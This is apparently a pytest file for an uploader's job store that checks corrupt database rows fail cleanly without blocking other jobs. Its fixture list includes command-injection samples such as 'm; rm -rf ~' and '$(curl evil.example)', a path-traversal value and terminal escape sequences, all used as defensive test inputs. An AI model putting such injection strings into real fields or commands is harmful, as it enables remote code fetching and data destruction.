"""A job whose rows make no sense fails, and stops nobody."""

from __future__ import annotations

import json
import shlex
from collections.abc import Callable
from datetime import UTC, datetime, timedelta, timezone
from typing import Any

import pytest
from sqlalchemy import Engine, update

from tests.store.conftest import BASE_URL, NOW
from uploader.core.documents import job_json
from uploader.core.errors import StoreError, UnreadableRow, VerbRefused
from uploader.core.job import Stage, Status
from uploader.core.lifecycle import Verb
from uploader.core.retry import Backoff, Fail, decide
from uploader.core.seal import Seal
from uploader.store.claims import Claims
from uploader.store.held import Held
from uploader.store.jobs import Jobs
from uploader.store.tables import UtcDateTime, events, files
from uploader.store.tables import jobs as table

SEAL = Seal(b"s" * 32)


def status_of(engine: Engine, job_id: int) -> tuple[str, str | None]:
    with engine.connect() as connection:
        query = table.select().where(table.c.id == job_id)
        row = connection.execute(query).one()
        return row.status, row.reason_code


FINDING = {"check": "c", "severity": "warning", "file": "", "message": "m", "hint": "h"}
NONSENSE: list[dict[str, Any]] = [
    {"create_body": []},
    {"create_body": {"model": 5}},
    {"options": 5},
    {"warnings": {}},
    {"warnings": [5]},
    {"kind": "novel"},
    {"preflight": "x"},
    {"preflight": [5]},
    {"preflight": [{"check": "c"}]},
    {"preflight": [FINDING | {"hint": 5}]},
    # Such words are JSON, and no answer in UTF-8 can be made of them.
    {"warnings": ["\ud800"]},
    {"preflight": [FINDING | {"hint": "\ud800"}]},
    {"preflight": [FINDING | {"\udfff": "m"}]},
    {"options": {"exclude": ["\ud800"]}},
    {"rate_bps": float("inf")},
    {"rate_bps": -1.0},
    {"polling_s": 1e300},
    {"attempts": 2**31 - 1},
    {"failures": -1},
    {"run_number": 2**31 - 1},
    {"recreations": 2**63 - 1},
    # Names go into commands that people copy.
    {"model_id": "m; rm -rf ~"},
    {"model_id": "$(curl evil.example)"},
    {"account": "acme`id`"},
    {"account": ""},
    {"account": "a" * 256},
    {"path": "m"},
    {"path": "/m/" + "x" * 300},
    {"snapshot": "../m"},
]


@pytest.mark.parametrize("nonsense", NONSENSE, ids=repr)
def test_a_job_that_cannot_be_read_does_not_keep_the_others_waiting(
    engine: Engine,
    claims: Claims,
    enqueue: Callable[..., int],
    put: Callable[..., None],
    nonsense: dict[str, Any],
) -> None:
    bad, good = enqueue("a"), enqueue("b")
    put(bad, **nonsense)
    held = claims.claim("w", BASE_URL, tuple(Stage), 60)
    assert held
    assert held.job.id == good
    assert status_of(engine, bad) == ("failed", "unreadable_row")
    with engine.connect() as connection:
        told = connection.execute(events.select().where(events.c.job_id == bad)).all()
    assert [event.kind for event in told] == ["enqueued", "failed"]
    assert claims.claim("w", BASE_URL, tuple(Stage), 60) is None


@pytest.mark.parametrize("nonsense", NONSENSE[1::4], ids=repr)
def test_a_job_that_cannot_be_read_hides_no_other_and_is_shown_as_failed(
    jobs: Jobs, enqueue: Callable[..., int], put: Callable[..., None], nonsense: dict[str, Any]
) -> None:
    ids = [enqueue(name) for name in ("a", "b", "c")]
    put(ids[1], **nonsense)
    for found in (jobs.jobs(), jobs.page(0, 10), jobs.these(ids)):
        assert [job.id for job in found] == ids
        assert [job.model_id for job in (found[0], found[2])] == ["a", "c"]
        odd = found[1]
        assert odd.reason
        assert (odd.status, odd.reason.code) == ("failed", "unreadable_row")
        assert f"job {odd.id} " in odd.reason.message
        assert f"`uploader remove {odd.id}`" in odd.reason.hint
        assert shlex.quote(odd.model) == odd.model
        assert json.dumps(job_json(odd, NOW))
    assert jobs.of_model("b") == []
    with pytest.raises(UnreadableRow, match=f"job {ids[1]} "):
        jobs.job(ids[1])


def test_of_a_row_of_countless_warnings_a_few_lines_are_shown(
    jobs: Jobs, enqueue: Callable[..., int], put: Callable[..., None]
) -> None:
    job_id = enqueue("a")
    put(job_id, warnings=["w" * 2000] * 5000)
    warnings = jobs.job(job_id).warnings
    assert (len(warnings), warnings[-1]) == (100, "and 4,901 more")
    assert len(json.dumps(job_json(jobs.job(job_id), NOW))) < 150_000


def test_a_job_that_has_ended_and_cannot_be_read_has_still_ended(
    jobs: Jobs, enqueue: Callable[..., int], put: Callable[..., None]
) -> None:
    job_id = enqueue("a")
    put(job_id, kind="novel", status=Status.DONE)
    (shown,) = jobs.jobs(ended=10)
    assert (shown.status, shown.model_id, shown.created_at) == ("done", "a", NOW)
    assert jobs.jobs(ended=0) == []


@pytest.mark.parametrize("damage", ["created_at = 'now'", "path = CAST(x'ff' AS TEXT)"])
def test_no_value_of_a_file_hides_another_job(
    sqlite_engine: Engine, new: Callable[..., Any], damage: str
) -> None:
    table = Jobs(sqlite_engine)
    ids = [table.enqueue(new(name), NOW)[0] for name in ("a", "b")]
    with sqlite_engine.begin() as connection:
        connection.exec_driver_sql(f"UPDATE jobs SET {damage} WHERE id = {ids[0]}")
    odd, good = table.jobs()
    assert (odd.id, odd.reason and odd.reason.code) == (ids[0], "unreadable_row")
    assert (good.id, good.reason) == (ids[1], None)


@pytest.mark.parametrize("at", [datetime.min.replace(tzinfo=UTC), datetime.max.replace(tzinfo=UTC)])
def test_every_time_of_a_row_can_be_shown_in_every_zone(
    jobs: Jobs, claims: Claims, enqueue: Callable[..., int], put: Callable[..., None], at: datetime
) -> None:
    job_id = enqueue("a")
    times = [column.name for column in table.columns if isinstance(column.type, UtcDateTime)]
    put(job_id, **dict.fromkeys(times, at))
    (shown,) = jobs.jobs()
    for hours in (-14, 14):
        shown.created_at.astimezone(timezone(timedelta(hours=hours)))
    assert json.dumps(job_json(shown, NOW))
    assert claims.claim("w", BASE_URL, tuple(Stage), 60)


def test_a_job_that_cannot_be_read_can_be_removed_and_nothing_else(
    jobs: Jobs, claims: Claims, enqueue: Callable[..., int], put: Callable[..., None]
) -> None:
    job_id = enqueue("a")
    held = claims.claim("w", BASE_URL, tuple(Stage), 60)
    assert held
    put(job_id, kind="novel")
    for verb in (Verb.PAUSE, Verb.CANCEL, Verb.RETRY):
        with pytest.raises(UnreadableRow):
            jobs.apply(job_id, verb, NOW)
    with pytest.raises(VerbRefused, match="a worker still has job"):
        jobs.remove(job_id, NOW)
    claims.release([held.lease])
    jobs.remove(job_id, NOW)
    assert jobs.jobs() == []


@pytest.mark.parametrize(
    "nonsense",
    [
        {"path": files.c.path.concat("/x")},
        {"attempts": 2**31 - 1},
        {"failures": -1},
        {"sessions": 2**31 - 1},
        {"mismatches": 2**31 - 1},
        {"bytes_sent": 2**63 - 1},
        {"furthest": -1},
        {"size_bytes": 2**62},
    ],
    ids=lambda nonsense: next(iter(nonsense)),
)
def test_files_that_cannot_be_read_fail_their_job_and_are_not_shown(
    engine: Engine, jobs: Jobs, enqueue: Callable[..., int], nonsense: dict[str, Any]
) -> None:
    bad, good = enqueue("a"), enqueue("b")
    with engine.begin() as connection:
        odd = update(files).where(files.c.job_id == bad)
        connection.execute(odd.values(**nonsense))
    with pytest.raises(UnreadableRow) as caught:
        jobs.files(bad)
    assert f"job {bad} " in caught.value.message
    assert isinstance(decide(caught.value, 1, NOW, 0.5, Backoff(1.0, 60.0)), Fail)
    assert jobs.files_to_show(bad) == []
    assert jobs.files_to_show(good) == jobs.files(good) != []


@pytest.mark.parametrize("end", ["\x1b]0;x\x07", "\n", "\x9b2J", "\u2028", "\\"], ids=ascii)
def test_a_name_that_no_scan_finds_is_not_read(
    engine: Engine, jobs: Jobs, enqueue: Callable[..., int], end: str
) -> None:
    """`receipt --sums` prints names as they are, and some of these steer a terminal."""
    job_id = enqueue()
    with engine.begin() as connection:
        connection.execute(update(files).values(path=files.c.path.concat(end)))
    with pytest.raises(UnreadableRow):
        jobs.files(job_id)


def test_a_cancelled_job_that_cannot_be_read_is_left_alone(
    engine: Engine, claims: Claims, enqueue: Callable[..., int], put: Callable[..., None]
) -> None:
    job_id = enqueue()
    put(job_id, status=Status.CANCELLED, delete_on_cancel=True, options=5)
    assert claims.claim_cancelled("w", BASE_URL, 60) is None
    assert status_of(engine, job_id) == ("cancelled", None)
    assert not claims.any_open(BASE_URL)


def test_a_file_that_cannot_be_read_fails_a_job_of_a_table_with_a_secret(
    engine: Engine, new: Callable[..., Any]
) -> None:
    sealed, claims = Jobs(engine, seal=SEAL), Claims(engine, lambda: NOW, seal=SEAL)
    job_id, _ = sealed.enqueue(new(), NOW)
    with engine.begin() as connection:
        connection.execute(update(files).values(path=files.c.path.concat("/x")))
    assert claims.claim("w", BASE_URL, tuple(Stage), 60) is None
    assert status_of(engine, job_id) == ("failed", "unreadable_row")


def test_a_worker_reads_nothing_that_lost_its_seal_since_it_was_claimed(
    engine: Engine, new: Callable[..., Any]
) -> None:
    wary = Jobs(engine, seal=SEAL, wary=True)
    wary.enqueue(new(), NOW)
    held = Claims(engine, lambda: NOW, seal=SEAL).claim("w", BASE_URL, tuple(Stage), 60)
    assert held
    with engine.begin() as connection:
        connection.execute(update(table).values(path="/etc"))
        connection.execute(update(files).values(size_bytes=11))
    attempts: list[Callable[[Held], object]] = [
        lambda held: held.enter_upload(created=True),
        lambda held: held.adopt_account("other"),
        lambda held: held.files.keep_urls({}, NOW),
        lambda held: held.files.drop_session("config.json", "why", bytes_sent=0),
        lambda held: wary.job(held.job.id),
        lambda held: wary.sealed_files(held.job),
    ]
    for attempt in attempts:
        with pytest.raises(StoreError, match="no seal"):
            attempt(held)
